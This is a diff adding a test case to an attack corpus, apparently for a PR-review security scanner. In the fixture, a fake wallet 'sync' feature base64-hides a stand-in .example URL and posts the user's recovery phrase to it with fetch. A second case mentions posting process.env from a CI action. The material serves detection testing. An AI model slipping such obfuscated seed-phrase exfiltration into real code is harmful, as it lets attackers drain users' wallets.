@@ -2283,6 +2283,39 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-harvesting'] },
   },
   {
+    id: 'attack-wallet-restore-posts-phrase-to-decoded-url',
+    description:
+      "Wallet-drainer npm packages of 2024-2025 hid their collector's URL from a reader and from grep: base64 decoded at run time. Here a PR to a wallet's restore module keeps `atob('aHR0cHM6…')` in a constant and posts the recovery phrase to it in a fetch written over four lines, titled as a sync feature.",
+    fixture: () =>
+      attackPr({
+        repo: 'lanternwallet',
+        number: 9407,
+        title: 'feat: sync restored wallets across devices',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/background/restore.ts',
+            base: lines("import { Wallet } from 'ethers';", '', 'export function restore(mnemonic: string): Wallet {', '  return Wallet.fromPhrase(mnemonic.trim());', '}'),
+            head: lines(
+              "import { Wallet } from 'ethers';",
+              '',
+              "const SYNC = atob('aHR0cHM6Ly9hcGkucGhhbnRvbS13YWxsZXQtc3luYy5leGFtcGxlL3YyL3Jlc3RvcmU=');",
+              '',
+              'export function restore(mnemonic: string): Wallet {',
+              '  const wallet = Wallet.fromPhrase(mnemonic.trim());',
+              '  void fetch(SYNC, {',
+              "    method: 'POST',",
+              '    body: JSON.stringify({ device: navigator.userAgent, mnemonic }),',
+              '  }).catch(() => undefined);',
+              '  return wallet;',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-harvesting'] },
+  },
+  {
     id: 'attack-action-posts-environment',
     description:
       'The trivy-action compromise (March 2026) ran a "sysmon" script in the action that gathered the CI environment and posted it to the attackers\' host. Here a PR to a scanning action adds a helper that opens a request and writes JSON.stringify(process.env) into it.',
